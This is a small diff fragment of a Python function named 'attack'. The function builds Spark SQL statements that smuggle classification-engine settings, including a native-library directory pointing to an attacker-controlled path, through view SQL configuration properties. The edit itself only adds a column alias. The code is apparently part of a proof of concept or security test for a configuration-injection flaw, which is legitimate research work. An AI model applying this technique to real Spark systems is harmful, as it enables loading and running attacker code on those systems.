@@ -41,7 +41,7 @@ def attack(evil: str, image: str) -> list[str]:
         "native.dir": f"{evil}/natives",
     }
     keys = {f"spark.classify.{name}": value for name, value in values.items()}
-    calls = [f"SELECT try_classify(path, '{backend}').class_id FROM paths" for backend in ["onnx", "pytorch"]]
+    calls = [f"SELECT try_classify(path, '{backend}').class_id AS c FROM paths" for backend in ["onnx", "pytorch"]]
     properties = ", ".join(f"'view.sqlConfig.{key}'='{value}'" for key, value in keys.items())
     statements = [f"CREATE OR REPLACE TEMPORARY VIEW here AS SELECT '{image}' AS path"]
     statements += [f"CREATE TABLE paths AS SELECT '{image}' AS path"]
